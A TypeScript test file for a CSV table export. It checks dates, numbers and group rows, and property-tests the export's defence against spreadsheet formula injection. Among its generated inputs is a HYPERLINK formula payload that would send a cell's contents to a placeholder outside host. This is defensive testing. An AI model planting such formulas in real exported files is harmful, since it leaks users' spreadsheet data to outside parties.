import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { tableFile } from '../../src/enhance/tableFile.ts';

const columns = ['Project', 'Due', 'Tasks', 'Cost'].map((title) => ({ key: title, title }));
const rows = [
  [
    { text: 'CRM, “new”' },
    { text: '13 Nov 2026, overdue', value: '2026-11-13' },
    { text: '−1,204', value: -1204 },
    { text: 'EUR 1,204', value: 1204 },
  ],
  [{ text: 'Shop\nand stock' }, { text: '–' }, { text: '29%', value: 0.29 }, { text: '–' }],
];

test('a table is a file that a spreadsheet reads: days and plain numbers as such, all else as the page says it', () => {
  expect(parse(tableFile({ columns, rows }, 'Month'), { bom: true })).toEqual([
    ['Project', 'Due', 'Tasks', 'Cost'],
    ['CRM, “new”', '2026-11-13', '-1204', 'EUR 1,204'],
    ['Shop\nand stock', '–', '29%', '–'],
  ]);
});

test('rows in groups have the name of theirs before them', () => {
  const groups = ['May', 'June'].map((text) => ({ text, note: '', count: 1 }));
  const read = parse(tableFile({ columns, rows, groups }, 'Month'), { bom: true }) as string[][];
  expect(read.map(([first]) => first)).toEqual(['Month', 'May', 'June']);
});

test('whatever somebody wrote, no cell begins as a formula does, and nothing is lost', () => {
  const text = fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc.string().map((rest) => `=HYPERLINK("https://x.example/"&A1)${rest}`),
    fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string()).map((parts) => parts.join('')),
  );
  fc.assert(
    fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (words) => {
      const file = tableFile(
        {
          columns: words.map((_, index) => ({ key: `${index}`, title: 'A' })),
          rows: [words.map((one) => ({ text: one }))],
        },
        '',
      );
      const [, line = []] = parse(file, {
        bom: true,
        relax_column_count: true,
        skip_empty_lines: false,
      }) as string[][];
      for (const [index, cell] of line.entries()) {
        expect(!/^[=+\-@\t\r]/.test(cell) || !Number.isNaN(Number(cell))).toBe(true);
        expect([words[index], `'${words[index]}`]).toContain(cell);
      }
      expect(line).toHaveLength(words.length);
    }),
  );
});
